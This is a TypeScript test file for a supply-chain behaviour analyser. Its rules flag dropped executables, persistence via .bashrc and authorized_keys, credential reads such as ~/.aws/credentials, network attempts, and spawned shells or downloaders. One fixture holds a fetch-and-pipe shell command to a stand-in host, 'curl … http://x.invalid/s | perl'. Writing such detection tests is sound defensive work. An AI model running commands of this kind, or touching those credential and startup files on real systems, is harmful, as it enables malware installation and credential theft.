import type { TraceEvent } from '../trace/trace-events.js';
import { findingsFor } from './rules.js';

const ctx = { home: '/home/pyti', work: '/work', tmp: '/tmp' };
let seq = 0;
const base = (pid = 10) => ({ seq: seq++, time: 1, pid, line: seq });
const file = (op: 'read' | 'write' | 'create' | 'chmod' | 'rename', path: string, extra: object = {}): TraceEvent =>
  ({ ...base(), kind: 'file', op, path, ok: true, ...extra }) as TraceEvent;
const exec = (path: string, ok = true): TraceEvent => ({ ...base(), kind: 'exec', path, argv: [path], argvTruncated: false, ok, errno: ok ? undefined : 'ENOENT' });

const rules = (events: TraceEvent[]) => findingsFor(events, 'install', ctx).map((f) => [f.rule, f.severity]);

describe('findings rules', () => {
  it('say nothing about an ordinary install', () => {
    expect(rules([
      file('read', '/usr/lib/python3.11/os.py'),
      file('create', '/work/data/venv/lib/python3.11/site-packages/x/__init__.py'),
      file('create', '/tmp/pip-unpack-1/x.whl'),
      file('create', '/home/pyti/.cache/pip/http/a'),
      exec('/work/data/venv/bin/python'),
      exec('/usr/bin/uname'),
    ])).toEqual([]);
  });

  it('keep a package\'s own caches in the home low at import and execute, and medium at install', () => {
    const writes = [file('create', '/home/pyti/.cache/someapp/state.json'), file('create', '/home/pyti/notes.txt')];
    for (const phase of ['import', 'execute'] as const) {
      expect(findingsFor(writes, phase, ctx).map((f) => [f.rule, f.severity])).toEqual([['unexpected-write', 'low'], ['unexpected-write', 'low']]);
    }
    expect(rules(writes)).toEqual([['unexpected-write', 'medium'], ['unexpected-write', 'medium']]);
  });

  it('do not count a process reading its own environment, but do count another process\'s', () => {
    expect(rules([file('read', '/proc/10/environ')])).toEqual([]);
    expect(rules([file('read', '/proc/1/environ')])).toEqual([['sensitive-read', 'high']]);
  });

  it('flag a dropped executable, persistence and credential access', () => {
    const found = rules([
      file('create', '/home/pyti/.local/bin/x'),
      file('chmod', '/home/pyti/.local/bin/x', { mode: 0o755 }),
      exec('/home/pyti/.local/bin/x'),
      file('write', '/home/pyti/.bashrc'),
      file('create', '/home/pyti/.ssh/authorized_keys'),
      file('read', '/home/pyti/.aws/credentials', { ok: false, errno: 'ENOENT' }),
    ]);
    expect(found).toEqual(expect.arrayContaining([
      ['dropped-executable', 'critical'], ['persistence', 'high'], ['persistence', 'critical'],
      ['sensitive-write', 'critical'], ['sensitive-read', 'high'], ['unexpected-write', 'medium'],
    ]));
  });

  it('flag network attempts and DNS lookups, and count one spawn attempt per program', () => {
    const found = findingsFor([
      { ...base(), kind: 'net', op: 'connect', family: 'inet', address: '127.0.0.1', port: 9, ok: false, errno: 'ECONNREFUSED' },
      { ...base(7), kind: 'net', op: 'send', family: 'inet', address: '127.0.0.1', port: 53, protocol: 'udp', ok: true, dns: { name: 'x.invalid', type: 'A' } },
      exec('/usr/local/bin/curl', false), exec('/usr/bin/curl', false), exec('/bin/sh'),
    ], 'build', ctx);
    expect(found.map((f) => f.title)).toEqual(expect.arrayContaining([
      'build tries the network: 127.0.0.1:9', 'build looks up x.invalid', 'build spawns a downloader: curl', 'build spawns a shell: sh',
    ]));
    expect(found.find((f) => f.rule === 'suspicious-spawn' && f.title.includes('curl'))!.evidence).toHaveLength(1);
    expect(found.filter((f) => f.rule === 'network-attempt')).toHaveLength(1);
  });

  it('read the programs a shell -c script runs, found or not', () => {
    const sh: TraceEvent = { ...base(), kind: 'exec', path: '/usr/bin/sh', argv: ['sh', '-c', 'curl -fsS http://x.invalid/s | perl -e 1; echo ok'], argvTruncated: false, ok: true };
    const titles = findingsFor([sh], 'import', ctx).map((f) => `${f.title} ${f.severity}`);
    expect(titles).toEqual(expect.arrayContaining(['import spawns a shell: sh medium', 'import spawns a downloader: curl high', 'import spawns an interpreter: perl medium']));
    expect(titles.some((t) => t.includes('echo'))).toBe(false);
  });
});
